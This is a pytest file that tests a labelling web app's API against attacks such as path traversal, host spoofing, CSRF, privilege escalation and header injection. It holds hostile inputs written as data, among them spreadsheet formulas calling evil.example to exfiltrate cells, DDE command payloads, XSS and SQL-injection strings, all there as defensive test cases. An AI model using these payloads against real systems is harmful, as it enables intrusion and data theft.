"""Attacks on the API, from outside and by people with an account: each one comes to nothing."""

from __future__ import annotations

import csv
import io
import threading
import unicodedata

import pytest

from labelwright.webapp.client import ApiRefusal, ReviewClient, new_client_id

KEEP = {"kind": "keep"}
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example/?x=\"&A1)", "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠x", '"=1+1', "'=1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"http://evil.example\"), \"//a\")", "x\n=1+1", "x,=1+1", "x;=1+1;",
]  # fmt: skip


def first_key(site):
    return site.call("GET", "/search").json()["rows"][0]["item"]


def say(site, key, role="annotator", said=KEEP):
    body = {"item": key, "answer": said, "client_id": next(site.ids)}
    response = site.call("POST", "/item/answer", role, body)
    assert response.status_code == 200, response.text
    return response.json()


# -- files -------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "key",
    [
        "../../../../etc/passwd",
        "/etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "\\..\\..\\etc",
        "file:///etc/passwd",
        "%00",
        "a\x00b",
    ],
)
def test_keys_are_no_paths(site, key):
    for path in ("/item", "/media"):
        response = site.call("GET", path, params={"item": key})
        assert response.status_code in (404, 422) and "root:" not in response.text


def test_a_nul_in_an_address_is_a_wrong_value(site):
    for name in ("text", "label", "suggested", "kind", "state"):
        assert site.call("GET", "/search", params={name: "a\x00b"}).status_code == 422


def test_files_outside_the_data_s_folder_and_links_to_them_are_refused(tmp_path):
    from labelwright.webapp import media

    data, outside = tmp_path / "data", tmp_path / "data-secret"
    data.mkdir()
    outside.mkdir()
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    (outside / "a.png").write_bytes(png)
    (data / "link.png").symlink_to(outside / "a.png")
    (data / "folder").symlink_to(outside)
    (data / "loop.png").symlink_to(data / "loop.png")
    for path in ("../data-secret/a.png", "link.png", "folder/a.png", "loop.png", ".", "", "a\x00.png", "x" * 5000):
        with pytest.raises(media.Refused):
            media.response(data / path, roots=[data])


def test_a_pipe_does_not_hang_the_server(tmp_path):
    import os

    from labelwright.webapp import media

    os.mkfifo(tmp_path / "pipe.png")
    with pytest.raises(media.Refused):
        media.response(tmp_path / "pipe.png")


# -- requests from elsewhere -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "host",
    ["evil.example", "localhost.evil.example", "localhost@evil.example", "127.0.0.1.evil.example", "", "localhost:81",
     "evil.example:80", "2130706433", "[", "[::1", "localhost:99999", "localhost:x", "localhost/..", "0x7f.1"],
)  # fmt: skip
def test_unknown_hosts_are_turned_away(site, host):
    assert site.call("GET", "/task", headers={"Host": host}).status_code in (400, 421)


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "http://localhost:81", "http://localhost.evil.example", "http://[", "x"]
)
def test_pages_of_other_sites_change_nothing(site, origin):
    assert site.call("POST", "/next", json={}, headers={"Origin": origin}).status_code == 403
    assert site.call("POST", "/next", json={}, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403


def test_simple_form_posts_are_no_json(site):
    from labelwright.webapp.security import csrf_token

    secret = site.accounts.start_session(site.people["owner"])
    site.browser.cookies.set(site.settings.cookie, secret)
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        headers = {"Content-Type": kind, "X-CSRF-Token": csrf_token(secret)}
        response = site.call(
            "POST", "/users", None, content=b'{"name": "evil", "password": "evil evil 123"}', headers=headers
        )
        assert response.status_code in (415, 422), kind


def test_a_session_s_csrf_token_is_its_own(site):
    from labelwright.webapp.security import csrf_token

    mine, theirs = (site.accounts.start_session(site.people[role]) for role in ("annotator", "owner"))
    site.browser.cookies.set(site.settings.cookie, theirs)
    assert site.call("POST", "/flush", None, headers={"X-CSRF-Token": csrf_token(mine)}).status_code == 403


def test_a_token_in_the_address_is_not_taken(site):
    token = site.headers["owner"]["Authorization"].split()[1]
    for name in ("token", "access_token", "api_key", "Authorization"):
        assert site.call("GET", "/users", None, params={name: token}).status_code == 401


# -- people with an account --------------------------------------------------------------------------------------------
def test_nobody_answers_skips_or_compares_with_another_s_lease(site):
    token = site.call("POST", "/next", json={}).json()["token"]
    body = {"token": token, "answer": KEEP, "client_id": next(site.ids)}
    for role in ("adjudicator", "owner"):
        assert site.call("POST", "/answer", role, body).status_code == 409
        assert site.call("POST", "/skip", role, {"token": token}).status_code == 409
    assert site.call("POST", "/answer", "annotator", body).status_code == 200


def test_a_client_id_of_somebody_else_tells_and_takes_nothing(site):
    first, second = site.call("GET", "/search").json()["rows"][:2]
    body = {"answer": {**KEEP, "comment": "secret"}, "client_id": next(site.ids)}
    mine = site.call("POST", "/item/answer", "annotator", {**body, "item": first["item"]}).json()
    theirs = site.call("POST", "/item/answer", "owner", {**body, "item": second["item"]}).json()
    assert theirs["item"] == second["item"] and not theirs["again"] and theirs["event_id"] != mine["event_id"]


def test_a_client_id_used_for_another_item_is_not_taken_for_an_answer_to_it(site):
    first, second = site.call("GET", "/search").json()["rows"][:2]
    body = {"answer": KEEP, "client_id": next(site.ids)}
    site.call("POST", "/item/answer", json={**body, "item": first["item"]})
    again = site.call("POST", "/item/answer", json={**body, "item": second["item"]})
    assert again.status_code in (409, 422) or again.json()["item"] == first["item"]
    assert site.call("GET", "/item", params={"item": second["item"]}).json()["mine"] is None


def test_what_others_said_is_hidden_until_one_has_answered(site):
    key = first_key(site)
    given = site.call("GET", "/item", params={"item": key}).json()["given"]
    other = next(name for name in site.desk.space.classes if name != given)
    say(site, key, "owner", {"kind": "class", "classes": [other], "comment": "the secret reason"})
    seen = site.call("GET", "/item", params={"item": key})
    assert "secret reason" not in seen.text and "owner one" not in seen.text
    found = site.call("GET", "/search", params={"per_page": 200})
    assert "secret reason" not in found.text and "owner one" not in found.text
    row = next(row for row in found.json()["rows"] if row["item"] == key)
    assert other not in [row.get(name) for name in ("settled", "answer", "mine", "value")], row
    assert site.call("GET", "/search", params={"text": "secret reason"}).json()["total"] == 0
    for path in ("/export", "/conflicts"):
        assert site.call("GET", path).status_code == 403


def test_an_annotator_does_not_overrule_an_adjudicator_in_the_repository(site):
    key = first_key(site)
    given = site.call("GET", "/item", params={"item": key}).json()["given"]
    others = [name for name in site.desk.space.classes if name != given]
    say(site, key, "annotator", {"kind": "class", "classes": [others[0]]})
    body = {"item": key, "answer": {"kind": "class", "classes": [others[1]]}, "client_id": next(site.ids)}
    assert site.call("POST", "/adjudicate", "adjudicator", body).status_code == 200
    late = {"kind": "class", "classes": [others[2]]}
    site.call("POST", "/item/answer", "annotator", {"item": key, "answer": late, "client_id": next(site.ids)})
    site.desk.flush()
    labels = {row["item"]: row["label"] for row in site.desk.repo.labels().to_pylist()}
    row = next(r for r in site.call("GET", "/search", "owner").json()["rows"] if r["item"] == key)
    assert labels[key] == f'"{others[1]}"' and row["settled"] == others[1]


def test_gold_is_told_to_owners_alone(site):
    for key in [row["item"] for row in site.call("GET", "/search").json()["rows"][:5]]:
        seen = site.call("GET", "/item", params={"item": key}).json()
        assert seen["gold"] is None
    assert "gold" not in site.call("GET", "/search").text


def test_two_answers_to_one_lease_at_once(server, site):
    token = site.headers["annotator"]["Authorization"].split()[1]
    clients = [ReviewClient(server, token) for _ in range(8)]
    for same in (True, False):
        lease, receipts, refused = clients[0].next(), [], []
        before = clients[0].progress()["answers"]
        shared, start = new_client_id(), threading.Barrier(len(clients))

        def send(client, lease=lease, receipts=receipts, refused=refused, same=same, shared=shared, start=start):
            start.wait()
            try:
                receipts.append(client.answer(lease, "keep", client_id=shared if same else None))
            except ApiRefusal as error:
                refused.append(error.status)

        threads = [threading.Thread(target=send, args=(client,)) for client in clients]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert clients[0].progress()["answers"] == before + 1
        assert sum(not receipt["again"] for receipt in receipts) == 1
        assert (len(receipts), set(refused)) == (8, set()) if same else set(refused) <= {409}


def test_a_role_that_was_taken_away_is_gone_at_once(site):
    site.accounts.change(site.people["adjudicator"].id, role="annotator")
    assert site.call("GET", "/conflicts", "adjudicator").status_code == 403
    site.accounts.change(site.people["adjudicator"].id, active=False)
    assert site.call("GET", "/task", "adjudicator").status_code == 401


def test_an_annotator_does_not_become_an_owner(site):
    me = site.people["annotator"].id
    assert site.call("PATCH", f"/users/{me}", json={"role": "owner"}).status_code == 403
    extra = {"name": "x", "user_id": me, "role": "owner"}
    assert site.call("POST", "/tokens", json=extra).status_code == 422
    assert site.call("GET", "/task").json()["role"] == "annotator"


# -- what goes out -----------------------------------------------------------------------------------------------------
def test_no_cell_of_the_csv_is_a_formula(site):
    keys = [row["item"] for row in site.call("GET", "/search", params={"per_page": 200}).json()["rows"]][
        : len(FORMULAS)
    ]
    for key, formula in zip(keys, FORMULAS):
        say(site, key, "owner", {"kind": "keep", "comment": formula})
    text = site.call("GET", "/export", "owner").text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(keys)
    for cell in (cell for row in rows for cell in row):
        start = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\v\f\xa0\ufeff")[:1]
        assert start not in ("=", "+", "-", "@") or _number(cell), cell
        assert not cell.startswith(("\t", "\r", "\n"))
    for separator in ";\t":  # as a spreadsheet of another country reads it
        for line in text.splitlines():
            for cell in line.split(separator)[1:]:
                assert cell[:1] not in ("=", "+", "@"), line


def _number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_name_of_the_export_injects_no_header(site, monkeypatch):
    name = 'x"\r\nSet-Cookie: a=b\r\n\r\n<script>../../é\u202egpj.exe'
    monkeypatch.setattr(type(site.desk), "name", name, raising=False)
    response = site.call("GET", "/export", "owner")
    told = response.headers["content-disposition"]
    assert "set-cookie" not in response.headers and told.isascii() and "/" not in told and ".." not in told
    assert told.startswith('attachment; filename="') and told.count('"') == 2


@pytest.mark.parametrize(
    "name",
    ["\u202eevil", "a\u2066b", "owner one\u200b", "OWNER ONE", "ｏｗｎｅｒ one", "owner\u00a0one", "a\nb", "\x1b[31m"],
)
def test_names_that_pass_for_others_are_refused(site, name):
    response = site.call("POST", "/users", "owner", {"name": name, "password": "correct horse battery"})
    assert response.status_code == 422, [a.user.name for a in site.accounts.everybody()]


def test_errors_repeat_no_markup_as_html(site):
    evil = "<script>alert(1)</script>"
    for response in (
        site.call("GET", "/item", params={"item": evil}),
        site.call("GET", f"/{evil}"),
        site.call("POST", "/answer", json={evil: evil}),
        site.call("POST", "/next", json={"stream": evil}),
    ):
        assert response.headers["content-type"] == "application/json" and response.status_code >= 400
        assert response.headers["x-content-type-options"] == "nosniff"


def test_nothing_is_cached_and_no_header_is_missing(site):
    headers = site.call("GET", "/progress").headers
    assert headers["cache-control"] == "no-store" and "default-src 'none'" in headers["content-security-policy"]
    assert not {"access-control-allow-origin", "set-cookie"} & set(headers)


def test_guessing_tokens_takes_no_hash_apart(site):
    """The database looks for the SHA-256 of what is sent, so that time tells nothing; odd ones are simply unknown."""
    for odd in ("", " ", "lw_", "x" * 8000, "%00", "é".encode().decode("latin-1"), "' OR 1=1 --"):
        response = site.call("GET", "/task", None, headers={"Authorization": f"Bearer {odd}".encode("latin-1")})
        assert response.status_code == 401
